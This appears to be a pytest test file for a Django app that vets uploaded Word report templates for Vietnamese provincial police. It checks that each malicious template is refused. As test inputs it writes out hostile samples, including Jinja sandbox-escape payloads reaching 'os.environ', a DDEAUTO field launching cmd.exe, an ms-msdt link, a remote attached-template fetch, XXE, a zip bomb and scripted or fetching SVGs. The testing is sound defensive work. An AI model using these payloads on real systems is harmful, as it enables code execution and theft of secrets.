"""Word templates of provinces: what works is used, what is hostile or wrong is refused with a sentence."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document

from reports.documents import docx, rendering, templates
from reports.documents.default_template import build
from reports.documents.docx import FIELDS, Unfillable, default_template, filled
from reports.models import ReportTemplate
from reports.months import Month
from tests import factories as f

BACKEND = "django.contrib.auth.backends.ModelBackend"
PAGE = "/documents/province-25/templates/"


def template(*lines):
    """A small .docx with these paragraphs."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_part(name, content, base=None):
    """A .docx with one more part in it, or another content of one."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base or template("x"))) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            if info.filename != name:
                new.writestr(info.filename, old.read(info.filename))
        new.writestr(name, content)
    return buffer.getvalue()


@pytest.fixture
def hoa(client, cast):
    f.filed(cast.chi_dam, Month(2025, 5), patrols=20)
    client.force_login(cast.hoa, backend=BACKEND)
    return cast


def upload(client, content, name="mau.docx"):
    return client.post(PAGE, {"file": SimpleUploadedFile(name, content)})


def word(client, address="/documents/07999/2025-H1/word/"):
    return "\n".join(p.text for p in Document(io.BytesIO(client.get(address).content)).paragraphs)


def test_a_good_template_is_used_by_the_province_and_its_communes_until_taken_back(client, hoa):
    good = template("MẪU RIÊNG {{ co_quan_ban_hanh }}", "{%p for khoi in cac_doan %}", "{{ khoi.van_ban }}",
                    "{%p endfor %}", "Tuần tra: {{ so_lieu.patrols.ky_nay }}")  # fmt: skip
    assert upload(client, good).status_code == 302
    text = word(client)
    assert "MẪU RIÊNG CÔNG AN XÃ CHÍ ĐÁM" in text and "Tuần tra: 20" in text
    assert "MẪU RIÊNG" in word(client, "/documents/province-25/2025-H1/word/")
    first = ReportTemplate.objects.get()
    assert upload(client, template("MẪU HAI {{ trich_yeu }}")).status_code == 302
    assert ReportTemplate.objects.filter(active=True).count() == 1 and "MẪU HAI" in word(client)
    client.post(f"{PAGE}use/", {"template": first.pk})
    assert "MẪU RIÊNG" in word(client)
    client.post(f"{PAGE}use/", {"template": "default"})
    assert "Kết quả công tác xây dựng phong trào" in word(client)
    assert client.get(f"{PAGE}{first.pk}/").content == good
    assert client.get(f"{PAGE}default/").content == default_template()


LIVE = "<w:p><w:fldSimple w:instr=\\'INCLUDETEXT http://x/ \\'/></w:p>"


@pytest.mark.once
@pytest.mark.parametrize(
    "line",
    [
        "{{p '%s'|safe }}",
        "{{p '%s'|xmlattr }}",
        "{%% autoescape false %%}{{ '%s' }}{%% endautoescape %%}",
        "{%% filter safe %%}{{ '%s' }}{%% endfilter %%}",
        "{%% set a %%}a{%% endset %%}{{ a.translate({97: '%s'}) }}",
        "{%% macro m() %%}a{%% endmacro %%}{{ m().translate({97: '%s'}) }}",
    ],
)
def test_nothing_that_unescapes_is_taken(client, hoa, line):
    answer = upload(client, template(line % LIVE))
    assert answer.status_code == 400 and "phép không được phép" in answer.content.decode()
    assert not ReportTemplate.objects.exists()


@pytest.mark.once
@pytest.mark.parametrize(
    "line",
    [
        "{{ trich_yeu.expandtabs(300000000) }}",
        "{{ trich_yeu.center(300000000) }}",
        "{{ trich_yeu.zfill(300000000) }}",
        "{{ trich_yeu.replace('', trich_yeu) }}",
        "{{ trich_yeu.__mul__(300000000) }}",
        "{{ trich_yeu['center'](300000000) }}",
        "{{ (trich_yeu.center|default(1))(300000000) }}",
        "{{ '{:300000000}'.format(1) }}",
        "{{ '%300000000d' % 1 }}",
        "{{ 'a' * 300000000 }}",
        "{{ [1] * 30000000 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ 1|round(300000000) }}",
        "{{ 1|round(precision=300000000) }}",
        "{{ 1|round(*[300000000]) }}",
        "{% for a in so_lieu %}" * 4 + "{{ a }}" + "{% endfor %}" * 4,
    ],
)
def test_nothing_that_makes_much_of_little_is_taken(client, hoa, line):
    answer = upload(client, template(line))
    assert answer.status_code == 400 and "phép không được phép" in answer.content.decode()
    assert not ReportTemplate.objects.exists()


def test_what_templates_call_is_still_called(client, hoa):
    line = (
        "{% for ma, so in so_lieu.items() %}{% if ma.startswith('patrol') %}{{ so.ten.upper() }}{% endif %}{% endfor %}"
    )
    shaded = "{% for a in so_lieu %}{% if loop.index % 2 %}{{ loop.index * 100 }}{% endif %}{% endfor %}"
    more = " {{ 1.25|round(1) }} {{ 1.25|round(1, 'common') }} {{ '; '.join(['a', 'b']).rstrip() }}"
    assert upload(client, template(line + shaded + more)).status_code == 302


def test_escaped_words_stay_words(client, hoa):
    assert upload(client, template("{{ '<b>'|upper }} {{ co_quan_ban_hanh|lower }}")).status_code == 302
    assert "<B> công an xã chí đám" in word(client)


def test_what_came_out_live_all_the_same_does_not_leave(client, hoa, monkeypatch):
    """A template kept before the filters were taken away."""
    monkeypatch.setattr(docx, "check_archive", lambda *args, **kwargs: None)
    body = zipfile.ZipFile(io.BytesIO(template("x"))).read("word/document.xml")
    live = body.replace(b"<w:t>x</w:t>", b'<w:fldSimple w:instr="INCLUDETEXT http://x/"/>')
    assert live != body
    kept = ReportTemplate.objects.create(
        province=hoa.phu_tho, name="cu.docx", content=with_part("word/document.xml", live), active=True, by=hoa.hoa,
        at=f.NOW,
    )  # fmt: skip
    address = "/documents/07999/2025-H1/word/"
    assert client.get(address).status_code == 200
    monkeypatch.undo()
    refused = client.get(address)
    assert refused.status_code == 409 and "mẫu của hệ thống" in refused.content.decode() and kept.active


def test_our_own_template_passes_its_own_check(client, hoa):
    assert upload(client, default_template()).status_code == 302


def test_pictures_drawings_and_fonts_are_taken(client, hoa):
    held = {
        "media/a.PNG": b"\x89PNG",
        "media/b.svg": SVG.format('<use href="#a" fill="url(#b)"/>'),
        "fonts/font1.odttf": b"\x00\x01",
    }
    content = template("x")
    for name, part in held.items():
        content = with_part(f"word/{name}", part, content)
    assert upload(client, content).status_code == 302


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def outside(target):
    """A template that Word would fetch another one for."""
    link = f'<Relationship Id="a" Type="{OFFICE}/attachedTemplate" {target}/>'
    return with_part("word/_rels/settings.xml.rels", f'<Relationships xmlns="{PACKAGE}">{link}</Relationships>')


def clicked(target, mode='TargetMode="External"'):
    """A template with a link that one clicks."""
    link = f'<Relationship Id="rId99" Type="{OFFICE}/hyperlink" Target="{target}" {mode}/>'
    return with_part("word/_rels/footer9.xml.rels", f'<Relationships xmlns="{PACKAGE}">{link}</Relationships>')


def footer(*codes):
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:ftr xmlns:w="{W}"><w:p>{runs}</w:p></w:ftr>'


def field(*codes):
    """A template with a field of Word's own."""
    return with_part("word/footer9.xml", footer(*codes))


def typed(name, told, content="x"):
    """A template with a part that its list of types tells something of."""
    with zipfile.ZipFile(io.BytesIO(template("x"))) as base:
        types = base.read("[Content_Types].xml").decode()
    return with_part("[Content_Types].xml", types.replace("</Types>", f"{told}</Types>"), with_part(name, content))


FOOTER = "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'


BAD = {
    "empty": (b"", "rỗng"),
    "not a docx": (b"xin chao", "không phải là tệp Word"),
    "an old .doc": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, ".doc cũ"),
    "a broken archive": (template("x")[:900], "bị hỏng"),
    "a workbook": (with_part("xl/workbook.xml", "<a/>", base=None).replace(b"word/document.xml", b"word/dokument.xml"),
                   "không phải là tệp Word"),
    "too heavy": (b"PK\x03\x04" + b"\0" * (3 * 1024 * 1024 + 1), "quá 3 MB"),
    "a zip bomb": (with_part("word/media/image1.png", b"\0" * (31 * 1024 * 1024)), "quá lớn"),
    "a macro": (with_part("word/vbaProject.bin", b"x"), "macro"),
    "an embedded object": (with_part("word/embeddings/a.xlsx", b"x"), "macro hoặc đối tượng nhúng"),
    "an entity": (with_part("word/settings.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "thực thể"),
    "something from elsewhere": (with_part(
        "word/_rels/settings.xml.rels",
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'), "nơi khác"),
    "a target that looks like a hyperlink": (outside('Target="http://x/relationships/hyperlink" TargetMode="External"'),
                                             "nơi khác"),
    "a mode spelt otherwise": (outside('Target="http://x/" TargetMode="Externa&#108;"'), "nơi khác"),
    "a target with a bracket": (outside('Target="http://x/?a>b" TargetMode="External"'), "nơi khác"),
    "a field that runs a program": (field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k x"'), "mã trường"),
    "a field in pieces": (field("INCLUDE", "PICTURE http://x/a.png"), "mã trường"),
    "a footer under another name": (typed(
        "word/footer9.txt", f'<Override PartName="/word/footer9.txt" ContentType="{FOOTER}"/>', footer("INCLUDETEXT x")),
        "footer9.txt"),
    "a footer that is called a picture": (typed(
        "word/footer9.png", f'<Override PartName="/word/footer9.png" ContentType="{FOOTER}"/>'), "footer9.png"),
    "pictures that are said to be footers": (typed("word/a.gif", f'<Default Extension="gif" ContentType="{FOOTER}"/>'),
                                             ".gif"),
    "a picture that is XML": (with_part("word/media/a.png", "\ufeff " + footer("INCLUDETEXT x")), "media/a.png"),
    "what is no picture": (with_part("word/a.htm", "x"), "a.htm"),
    "a drawing that runs": (with_part("word/media/a.svg", SVG.format("<script>x</script>")), "SVG"),
    "a drawing that fetches by its colours": (
        with_part("word/media/a.svg", SVG.format('<path style="fill:url( http://x/a.svg#b)"/>')), "SVG"),
    "a drawing with a sheet of its own": (
        with_part("word/media/a.svg", SVG.format('<style>@import "http://x/a.css"</style>')), "SVG"),
    "XML behind many blanks": (with_part("word/media/a.png", " " * 300 + footer("INCLUDETEXT x")), "media/a.png"),
    "a drawing that fetches": (with_part("word/media/a.svg", SVG.format('<image href="http://x/a.png"/>')), "SVG"),
    "another file's content": (with_part("word/footer9.xml", f'<w:ftr xmlns:w="{W}"><w:altChunk/></w:ftr>'), "tệp khác"),
    "a letter merged from a database": (with_part(
        "word/settings.xml", f'<w:settings xmlns:w="{W}"><w:mailMerge><w:query w:val="select"/></w:mailMerge></w:settings>'),
        "nguồn ngoài"),
    "a page of frames": (with_part("word/webSettings.xml", f'<w:webSettings xmlns:w="{W}"><w:frameset/></w:webSettings>'),
                         "nguồn ngoài"),
    "an object that is linked": (with_part(
        "word/footer9.xml", f'<w:ftr xmlns:w="{W}" xmlns:o="urn:x"><o:OLEObject Type="Link"/></w:ftr>'), "nguồn ngoài"),
    "an image by its address": (with_part(
        "word/footer9.xml", f'<w:ftr xmlns:w="{W}" xmlns:v="urn:x"><v:imagedata src="http://x/a.png"/></w:ftr>'),
        "nguồn ngoài"),
    "a field that was struck out": (with_part(
        "word/footer9.xml", f'<w:ftr xmlns:w="{W}"><w:r><w:delInstrText>DDE x</w:delInstrText></w:r></w:ftr>'), "mã trường"),
    "a link into the network's shares": (clicked(r"\\192.0.2.1\x"), r"“\\192.0.2.1\x”, không phải địa chỉ web"),
    "a link that starts a program": (clicked("ms-msdt:/id PCWDiagnostic"), "không phải địa chỉ web"),
    "an unknown field": (template("{{ ten_tinh }}"), "“ten_tinh”"),
    "an unknown part of a field": (template("{{ so_lieu.khong_co.ky_nay }}"), "khong_co"),
    "a syntax error": (template("{{ trich_yeu "), "sai cú pháp"),
    "an open loop": (template("{%p for dong in noi_nhan %}", "{{ dong }}"), "sai cú pháp"),
    "a reach for the system": (template("{{ trich_yeu.__class__.__mro__ }}"), "không được phép"),
    "a broken document": (with_part("word/document.xml", "<w:document"), "tệp bị hỏng"),
}  # fmt: skip


@pytest.mark.once
@pytest.mark.parametrize(
    "target", ["https://bocongan.gov.vn/", "mailto:van.phong@example.vn", "tel:02103846000", "#trang1"]
)
def test_web_addresses_and_letters_may_be_clicked(client, hoa, target):
    assert upload(client, clicked(target)).status_code == 302


@pytest.mark.once
@pytest.mark.parametrize("what", BAD)
def test_a_bad_template_is_refused_with_a_sentence(client, hoa, what):
    content, says = BAD[what]
    response = upload(client, content)
    page = response.content.decode()
    assert response.status_code == 400, what
    error = page.split('role="alert"')[1].split("</div>")[0]
    assert says in error, error
    assert not ReportTemplate.objects.exists()


def test_an_unknown_field_is_answered_with_those_that_are_known(client, hoa):
    page = upload(client, template("{{ ten_tinh }}")).content.decode()
    assert all(field.name in page for field in FIELDS)


@pytest.mark.once
def test_an_endless_template_is_stopped(client, hoa, monkeypatch):
    loops = "{% for a in so_lieu %}" * 3 + "{% if a ~ so_lieu ~ so_lieu == a %}x{% endif %}" + "{% endfor %}" * 3
    monkeypatch.setattr("reports.documents.templates.FIRST", 2)
    page = upload(client, template(loops)).content.decode()
    assert "quá lâu" in page or "quá lớn" in page
    assert not ReportTemplate.objects.exists()


def test_a_template_in_a_process_knows_nothing_of_the_server(monkeypatch):
    monkeypatch.setenv("SECRET_KEY", "khong-duoc-thay")
    with pytest.raises(Unfillable) as refused:
        filled(template("{{ cycler.__init__.__globals__.os.environ }}"), {"trich_yeu": "x"})
    assert refused.value.answer["error"] == "unknown"


def test_words_are_escaped_whatever_they_hold():
    text = 'A & B <w:p/> "C" {{ x }} \x0b'
    document = Document(
        io.BytesIO(rendering.rendered(template("{{ trich_yeu }}"), {"trich_yeu": text.replace("\x0b", "")}))
    )
    assert document.paragraphs[0].text.strip() == text.replace("\x0b", "").strip()


def test_the_binary_is_what_the_script_builds():
    def parts(content):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return {name: archive.read(name) for name in archive.namelist() if not name.startswith("docProps/core")}

    assert parts(default_template()) == parts(build())


@pytest.mark.parametrize(("who", "status"), [("thu", 403), ("an", 403), ("minh", 404), ("son", 404)])
def test_only_the_reviewer_changes_templates(client, hoa, who, status):
    client.force_login(getattr(hoa, who), backend=BACKEND)
    assert upload(client, template("{{ trich_yeu }}")).status_code == status
    assert client.post(f"{PAGE}use/", {"template": "default"}).status_code == status
    assert not ReportTemplate.objects.exists()


@pytest.mark.parametrize("asked", ["", "x", "9" * 30, "999"])
def test_a_template_that_is_not_there_is_not_found(client, hoa, asked):
    assert client.post(f"{PAGE}use/", {"template": asked}).status_code == 404


FORMERLY = "{{ trich_yeu.center(9) }}"
"""What was taken when fewer calls were refused."""


@pytest.fixture
def stored(hoa):
    content, of = template(FORMERLY), {"province": hoa.phu_tho, "by": hoa.hoa, "at": f.NOW}
    return ReportTemplate.objects.create(name="cu.docx", content=content, active=True, **of)


def test_who_chooses_a_template_learns_that_it_is_not_filled_any_more(client, hoa, stored):
    page = client.get(PAGE).content.decode()
    assert "Mẫu đang dùng nay không điền được nữa: Mẫu dùng phép không được phép" in page
    client.post(f"{PAGE}use/", {"template": "default"})
    assert "nay không" not in client.get(PAGE).content.decode()
    answer = client.post(f"{PAGE}use/", {"template": stored.pk})
    assert answer.status_code == 409 and "nay không dùng được: Mẫu dùng phép" in answer.content.decode()
    stored.refresh_from_db()
    assert not stored.active


@pytest.mark.once
@pytest.mark.parametrize("passing", ["slow", "large"])
def test_a_busy_machine_is_no_fault_of_a_template(client, hoa, stored, monkeypatch, passing):
    def busy(*_):
        raise Unfillable({"error": passing})

    with monkeypatch.context() as now:
        now.setattr(templates, "filled", busy)
        assert "nay không điền được" not in client.get(PAGE).content.decode()
        client.post(f"{PAGE}use/", {"template": "default"})
        assert client.post(f"{PAGE}use/", {"template": stored.pk}).status_code == 302
        assert upload(client, template("{{ trich_yeu }}")).status_code == 400, "a new one must be filled once"
    assert "nay không điền được" in client.get(PAGE).content.decode(), "nothing was remembered"


def test_who_downloads_meanwhile_is_offered_our_own(client, hoa, stored):
    client.force_login(hoa.minh, backend=BACKEND)
    for address in ("/documents/07999/2025-H1/word/", "/documents/07999/2025-H1/word/?include=all"):
        answer = client.get(address)
        assert answer.status_code == 409
        otherwise = re.search(r'class="button" href="([^"]+)"', answer.content.decode())[1].replace("&amp;", "&")
        assert "include" not in address or "include=all" in otherwise
        assert "Kết quả công tác xây dựng phong trào" in word(client, otherwise)
